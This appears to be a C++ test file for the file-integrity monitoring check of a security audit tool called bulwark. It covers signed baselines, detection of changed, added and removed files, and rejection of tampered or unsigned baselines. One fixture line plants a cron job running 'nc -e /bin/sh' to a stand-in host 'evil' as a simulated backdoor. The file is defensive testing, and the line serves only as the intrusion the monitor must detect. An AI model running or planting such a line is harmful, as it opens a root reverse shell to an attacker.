// bulwark fim inside `audit` (issue 17): monitoring.file-integrity-changes
// reports each path added, removed or changed since a signed baseline, and
// refuses (error) a baseline that is unsigned, tampered or unverifiable;
// monitoring.file-integrity passes only on a valid, signed, recent one.
// Fixture roots get a real baseline from `bulwark fim init`, then mutations.

#include "audit_helper.hpp"
#include "support.hpp"

#include <bulwark/core/rootfs.hpp>
#include <bulwark/fim/database.hpp>
#include <bulwark/fim/fim.hpp>

#include <fstream>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <sys/stat.h>

namespace bulwark::test {
namespace {

const std::string k_bin = BULWARK_BINARY;
const std::string k_db = "/var/lib/bulwark/fim/baseline.db";
const std::string k_check = "monitoring.file-integrity-changes";

std::string read_host(const std::string &path) {
  std::ifstream in(path, std::ios::binary);
  return bulwark::test::read_all(in);
}

// A target with what bulwark's built-in policy selects (binaries, /etc,
// root's keys), an Ed25519 key pair (the private key outside the target,
// the public key where the catalogue's default expects it), and a signed
// baseline written by `bulwark fim init`.
struct FimFixture {
  TempRoot root, work;
  std::string key = work.path() + "/fim.key";
  std::string other_pub = work.path() + "/other.pub";

  void make_tree() {
    root.write("/usr/bin/tool", "#!/bin/sh\necho tool\n", 0755);
    root.write("/usr/sbin/daemon", "daemon v1\n", 0755);
    root.write("/etc/ssh/sshd_config", "PermitRootLogin no\n");
    root.write("/etc/old.conf", "going away\n");
    root.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n", 0600);
    root.mkdir("/var/lib/bulwark/fim");
  }
  void make_keys() {
    root.mkdir("/etc/bulwark");
    auto r = run_command(
        "openssl genpkey -algorithm ed25519 -out " + key + " && openssl pkey -in " + key +
        " -pubout -out " + root.host("/etc/bulwark/fim.pub") +
        " && openssl genpkey -algorithm ed25519 | openssl pkey -pubout -out " + other_pub);
    ASSERT_EQ(r.exit_code, 0) << r.err;
  }
  // `fim init` of the target, signed unless `sign` is false.
  void init(bool sign = true, const std::string &extra = "") {
    auto r = run_command(k_bin + " fim init --root " + root.path() + " --db " + root.host(k_db) +
                         (sign ? " --key " + key : "") + extra);
    ASSERT_EQ(r.exit_code, 0) << r.err;
  }
  void setup() {
    make_tree();
    make_keys();
    init();
  }
  Findings audit(const std::vector<std::string> &profiles = {}) const {
    return audit_only(root.path(), {k_check}, profiles);
  }
  std::string profile(const std::string &params) const {
    std::string p = work.path() + "/site.yaml";
    std::ofstream(p) << "extends: baseline\nparameters:\n  " << k_check << ": " << params << "\n";
    return p;
  }
};

bool cites(const Finding &f, const std::string &path, const std::string &found_prefix) {
  for (auto &e : f.evidence)
    if (e.path == path && e.found.rfind(found_prefix, 0) == 0)
      return true;
  return false;
}

TEST(FimAudit, UnchangedTreePassesAndMutationsAreFindingsPerPath) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.setup();
  if (::testing::Test::HasFatalFailure())
    return;
  auto clean = fx.audit();
  const Finding &pass = clean.one(k_check);
  EXPECT_EQ(pass.status, Status::pass) << clean.dump();
  EXPECT_NE(pass.message.find("signed"), std::string::npos) << pass.message;

  // Content rewritten with its old size (ctime and sha256 give it away),
  // a mode change to setuid, an added file, a removed file.
  fx.root.write("/usr/sbin/daemon", "daemon v2\n", 0755);
  ASSERT_EQ(::chmod(fx.root.host("/usr/bin/tool").c_str(), 04755), 0);
  fx.root.write("/etc/cron.d/backdoor", "* * * * * root nc -e /bin/sh evil 4444\n");
  ASSERT_EQ(::unlink(fx.root.host("/etc/old.conf").c_str()), 0);
  auto f = fx.audit();
  for (auto *p : {"/usr/sbin/daemon", "/usr/bin/tool", "/etc/cron.d/backdoor", "/etc/old.conf"}) {
    const Finding &x = f.get(k_check, p);
    EXPECT_EQ(x.status, Status::fail) << f.dump();
    ASSERT_FALSE(x.evidence.empty());
    // The baseline comes first in the evidence: what the path was compared with.
    EXPECT_EQ(x.evidence.front().path, k_db) << p;
  }
  const Finding &daemon = f.get(k_check, "/usr/sbin/daemon");
  EXPECT_NE(daemon.message.find("sha256"), std::string::npos) << daemon.message;
  EXPECT_TRUE(cites(daemon, "/usr/sbin/daemon", "sha256 ")) << f.dump();
  const Finding &tool = f.get(k_check, "/usr/bin/tool");
  EXPECT_TRUE(cites(tool, "/usr/bin/tool", "perm -rwsr-xr-x")) << f.dump();
  EXPECT_NE(f.get(k_check, "/etc/cron.d/backdoor").message.find("added"), std::string::npos);
  EXPECT_NE(f.get(k_check, "/etc/old.conf").message.find("removed"), std::string::npos);
  // The untouched files are no findings; the directories whose entries
  // changed are (AIDE's semantics: their mtime and ctime changed).
  EXPECT_FALSE(f.has(k_check, "/etc/ssh/sshd_config")) << f.dump();
  EXPECT_FALSE(f.has(k_check, "/root/.ssh/authorized_keys")) << f.dump();
  EXPECT_FALSE(f.has(k_check, "")) << "no summary pass beside the changes:\n" << f.dump();
}

// Issue 17: the default policy covers the compose projects and their
// secrets wherever they are, laid out as guide 000 deploys them (a main
// file, the security override, an environment file a deploy script names,
// the script, .env, a docker secret); the service's data directory is not
// watched.
TEST(FimAudit, DefaultPolicyWatchesGuide000sComposeProjectAndItsSecrets) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.make_tree();
  auto &r = fx.root;
  r.write("/srv/vpn/docker-compose.yml", "services:\n"
                                         "  vpn-server:\n"
                                         "    image: example/vpn:1\n"
                                         "    secrets: [db_password]\n"
                                         "    volumes: ['./data:/var/lib/vpn']\n"
                                         "secrets:\n"
                                         "  db_password:\n"
                                         "    file: ./secrets/db_password.txt\n");
  r.write("/srv/vpn/docker-compose.security.yml",
          "services:\n  vpn-server:\n    security_opt: [no-new-privileges:true]\n");
  r.write("/srv/vpn/environments/production.yml",
          "services:\n  vpn-server:\n    environment: [MODE=production]\n");
  r.write("/srv/vpn/secure-deploy.sh",
          "#!/bin/bash\nset -euo pipefail\ndocker stack deploy \\\n"
          "  --compose-file docker-compose.yml \\\n"
          "  --compose-file docker-compose.security.yml \\\n"
          "  --compose-file environments/production.yml \\\n"
          "  --with-registry-auth \\\n  vpn-stack\n",
          0755);
  r.write("/srv/vpn/.env", "TAG=1\n", 0600);
  r.write("/srv/vpn/secrets/db_password.txt", "hunter2\n", 0600);
  r.write("/srv/vpn/data/state.db", "rows v1\n");
  fx.make_keys();
  fx.init();
  if (::testing::Test::HasFatalFailure())
    return;
  EXPECT_EQ(fx.audit().one(k_check).status, Status::pass);

  const char *watched[] = {"/srv/vpn/docker-compose.yml",
                           "/srv/vpn/docker-compose.security.yml",
                           "/srv/vpn/environments/production.yml",
                           "/srv/vpn/secure-deploy.sh",
                           "/srv/vpn/.env",
                           "/srv/vpn/secrets/db_password.txt"};
  for (const char *p : watched) {
    std::string before = read_host(r.host(p));
    ASSERT_FALSE(before.empty()) << p;
    r.write(p, before + "# tampered\n", 0600);
  }
  r.write("/srv/vpn/data/state.db", "rows v2, longer\n");
  auto f = fx.audit();
  for (const char *p : watched)
    EXPECT_EQ(f.get(k_check, p).status, Status::fail) << p << "\n" << f.dump();
  EXPECT_FALSE(f.has(k_check, "/srv/vpn/data/state.db")) << "a service's data is not watched\n"
                                                         << f.dump();
}

TEST(FimAudit, AuditExitCodeAndJsonThroughTheCommandLine) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.setup();
  if (::testing::Test::HasFatalFailure())
    return;
  std::string cmd =
      k_bin + " audit --root " + fx.root.path() + " --only " + k_check + " --format json";
  auto ok = run_command(cmd);
  EXPECT_EQ(ok.exit_code, 0) << ok.err << ok.out;
  fx.root.write("/etc/ssh/sshd_config", "PermitRootLogin yes\n");
  auto changed = run_command(cmd);
  EXPECT_EQ(changed.exit_code, 1) << changed.err;
  auto j = nlohmann::json::parse(changed.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << changed.out;
  bool seen = false;
  for (auto &finding : j.at("findings"))
    if (finding.value("check", "") == k_check &&
        finding.value("subject", "") == "/etc/ssh/sshd_config") {
      seen = true;
      EXPECT_EQ(finding.value("status", ""), "fail");
    }
  EXPECT_TRUE(seen) << changed.out;
}

TEST(FimAudit, UntrustedBaselinesAreErrorsAndCompareNothing) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.setup();
  if (::testing::Test::HasFatalFailure())
    return;
  fx.root.write("/usr/bin/tool", "replaced\n", 0755);
  std::string good = read_host(fx.root.host(k_db));
  ASSERT_GT(good.size(), 200u);

  auto expect_error = [&](const std::string &what, const std::string &words) {
    auto f = fx.audit();
    const Finding &e = f.one(k_check);
    EXPECT_EQ(e.status, Status::error) << what << "\n" << f.dump();
    EXPECT_NE(e.message.find(words), std::string::npos) << what << ": " << e.message;
    EXPECT_FALSE(f.has(k_check, "/usr/bin/tool"))
        << what << ": compared with an untrusted baseline";
  };
  // A record bit-flipped (the checksum no longer matches).
  std::string flipped = good;
  flipped[good.size() / 2] = static_cast<char>(flipped[good.size() / 2] ^ 0x20);
  fx.root.write(k_db, flipped, 0600);
  expect_error("bit flip", "not trusted");
  // Truncated.
  fx.root.write(k_db, good.substr(0, good.size() - 10), 0600);
  expect_error("truncated", "not trusted");
  // Signed by another key than the target's public key.
  fx.root.write(k_db, good, 0600);
  const std::string right_pub = read_host(fx.root.host("/etc/bulwark/fim.pub"));
  fx.root.write("/etc/bulwark/fim.pub", read_host(fx.other_pub));
  expect_error("another key", "signature does not verify");
  // No public key to verify a signed baseline.
  ASSERT_EQ(::unlink(fx.root.host("/etc/bulwark/fim.pub").c_str()), 0);
  expect_error("no public key", "no public key at /etc/bulwark/fim.pub");
  // Not a key at all.
  fx.root.write("/etc/bulwark/fim.pub", "not a key\n");
  expect_error("garbage key", "cannot be verified");
  // Unsigned (an intruder re-baselined without the key).
  fx.root.write("/etc/bulwark/fim.pub", right_pub);
  fx.init(false);
  expect_error("unsigned", "not signed");
  // ... unless the profile accepts it: then the comparison runs.
  std::string lax = fx.profile("{allow-unsigned: 1}");
  auto same = fx.audit({lax});
  const Finding &p = same.one(k_check);
  EXPECT_EQ(p.status, Status::pass) << "the re-baselined tree is the baseline\n" << same.dump();
  EXPECT_NE(p.message.find("UNSIGNED"), std::string::npos) << p.message;
  fx.root.write("/usr/bin/tool", "replaced again\n", 0755);
  auto changed = fx.audit({lax});
  EXPECT_EQ(changed.get(k_check, "/usr/bin/tool").status, Status::fail) << changed.dump();
}

TEST(FimAudit, NoBaselineIsNotApplicableAndAnotherDatabasePathIsRead) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.make_tree();
  fx.make_keys();
  if (::testing::Test::HasFatalFailure())
    return;
  auto none = fx.audit();
  EXPECT_EQ(none.one(k_check).status, Status::not_applicable) << none.dump();
  // A baseline kept elsewhere, named by the profile.
  fx.root.mkdir("/srv/fim");
  auto r = run_command(k_bin + " fim init --root " + fx.root.path() + " --db " +
                       fx.root.host("/srv/fim/site.db") + " --key " + fx.key);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::string prof = fx.profile("{database: /srv/fim/site.db}");
  auto clean = fx.audit({prof});
  EXPECT_EQ(clean.one(k_check).status, Status::pass) << clean.dump();
  fx.root.write("/etc/ssh/sshd_config", "PermitRootLogin yes # longer now\n");
  auto changed = fx.audit({prof});
  EXPECT_EQ(changed.get(k_check, "/etc/ssh/sshd_config").status, Status::fail) << changed.dump();
}

// The policy the baseline was made with, read from the target with its
// includes: Debian's layout (aide.conf + aide.conf.d, an executable include
// skipped, as `fim --aide-config` does on the host).
TEST(FimAudit, AideConfigInTheTargetWithIncludes) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.make_tree();
  fx.make_keys();
  if (::testing::Test::HasFatalFailure())
    return;
  fx.root.write("/etc/aide/aide.conf", "@@x_include /etc/aide/aide.conf.d ^[a-zA-Z0-9_-]+$\n");
  fx.root.write("/etc/aide/aide.conf.d/31_aide_sbin", "/usr/sbin p+ftype+i+n+u+g+s+m+c+sha256\n");
  fx.root.write("/etc/aide/aide.conf.d/10_aide_run", "#!/bin/sh\necho /etc p\n", 0755);
  // init is given the same rule from a host file (the target's includes are
  // target paths, which `fim --aide-config` would read on the host).
  std::string host_conf = fx.work.path() + "/aide.conf";
  std::ofstream(host_conf) << "/usr/sbin p+ftype+i+n+u+g+s+m+c+sha256\n";
  fx.init(true, " --config " + host_conf);
  if (::testing::Test::HasFatalFailure())
    return;
  std::string prof = fx.profile("{config: /etc/aide/aide.conf}");
  auto clean = fx.audit({prof});
  EXPECT_EQ(clean.one(k_check).status, Status::pass) << clean.dump();
  // Outside the policy: not a finding. Inside: one.
  fx.root.write("/usr/bin/tool", "outside the policy\n", 0755);
  fx.root.write("/usr/sbin/daemon", "daemon v2\n", 0755);
  auto f = fx.audit({prof});
  f.expect_subjects(k_check, {"/usr/sbin/daemon"});
  // A policy that does not parse is an error with its file and line.
  fx.root.write("/etc/aide/aide.conf.d/31_aide_sbin", "/usr/sbin NOSUCHGROUP\n");
  auto bad = fx.audit({prof});
  const Finding &e = bad.one(k_check);
  EXPECT_EQ(e.status, Status::error) << bad.dump();
  ASSERT_FALSE(e.evidence.empty());
  EXPECT_EQ(e.evidence.front().path, "/etc/aide/aide.conf.d/31_aide_sbin");
  EXPECT_EQ(e.evidence.front().line, 1);
}

// monitoring.file-integrity: a bulwark baseline counts only when intact,
// signed, verified and recent.
TEST(FimAudit, FileIntegrityNeedsASignedVerifiedRecentBaseline) {
  BULWARK_REQUIRE_TOOL("openssl") << "(Debian package openssl)";
  FimFixture fx;
  fx.setup();
  if (::testing::Test::HasFatalFailure())
    return;
  auto status = [&](std::vector<std::string> profiles = {}) {
    auto f = audit_only(fx.root.path(), {"monitoring.file-integrity"}, profiles);
    return std::make_pair(f.one("monitoring.file-integrity").status,
                          f.one("monitoring.file-integrity").message);
  };
  auto [good, msg] = status();
  EXPECT_EQ(good, Status::pass) << msg;
  EXPECT_NE(msg.find("valid and signed"), std::string::npos) << msg;
  // Stale: a profile that wants it younger than 0 days, after a second.
  std::string prof = fx.work.path() + "/stale.yaml";
  std::ofstream(prof) << "parameters:\n  monitoring.file-integrity: {days: 0}\n";
  ::sleep(1);
  auto [stale, stale_msg] = status({prof});
  EXPECT_EQ(stale, Status::fail) << stale_msg;
  EXPECT_NE(stale_msg.find("older than 0 days"), std::string::npos) << stale_msg;
  // Tampered: error.
  std::string good_db = read_host(fx.root.host(k_db));
  std::string flipped = good_db;
  flipped[flipped.size() - 20] = static_cast<char>(flipped[flipped.size() - 20] ^ 1);
  fx.root.write(k_db, flipped, 0600);
  auto [tampered, t_msg] = status();
  EXPECT_EQ(tampered, Status::error) << t_msg;
  // Unsigned: fail.
  fx.init(false);
  auto [unsigned_, u_msg] = status();
  EXPECT_EQ(unsigned_, Status::fail) << u_msg;
  EXPECT_NE(u_msg.find("not signed"), std::string::npos) << u_msg;
}

} // namespace
} // namespace bulwark::test
